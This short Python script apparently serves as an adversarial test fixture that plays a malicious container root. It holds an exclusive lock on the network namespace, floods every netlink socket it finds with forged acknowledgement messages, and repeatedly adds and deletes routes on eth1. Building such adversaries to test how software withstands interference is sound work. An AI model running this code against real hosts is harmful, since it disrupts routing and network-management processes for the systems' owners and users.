"""Runs as a container's root that means ill: writes to every netlink socket of its namespace, flaps routes, holds the lock."""
import fcntl, os, socket, struct, subprocess, sys, time

end = time.monotonic() + float(sys.argv[1])
lock = open("/proc/self/ns/net")
fcntl.flock(lock, fcntl.LOCK_EX)


def flood():
    sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    own = sender.bind((0, 0)) or sender.getsockname()[0]
    # An acknowledgement with the sequence number that most runs use somewhere.
    junk = b"".join(struct.pack("=IHHIIi16x", 36, 2, 0, number, 0, 0) for number in range(64))
    while time.monotonic() < end:
        with open("/proc/net/netlink") as sockets:
            ports = [int(line.split()[2]) for line in sockets.readlines()[1:] if line.split()[1] == "0"]
        for port in ports:
            if port in (0, own):
                continue
            for _ in range(64):
                try:
                    sender.sendto(junk, socket.MSG_DONTWAIT, (port, 0))
                except OSError:
                    pass


def flap():
    commands = "".join(
        f"route add 203.0.113.{n}/32 dev eth1\nroute del 203.0.113.{n}/32 dev eth1\n" for n in range(1, 200))
    while time.monotonic() < end:
        subprocess.run(["ip", "-batch", "-"], input=commands, text=True, stderr=subprocess.DEVNULL)


if os.fork():
    flood()
else:
    flap()
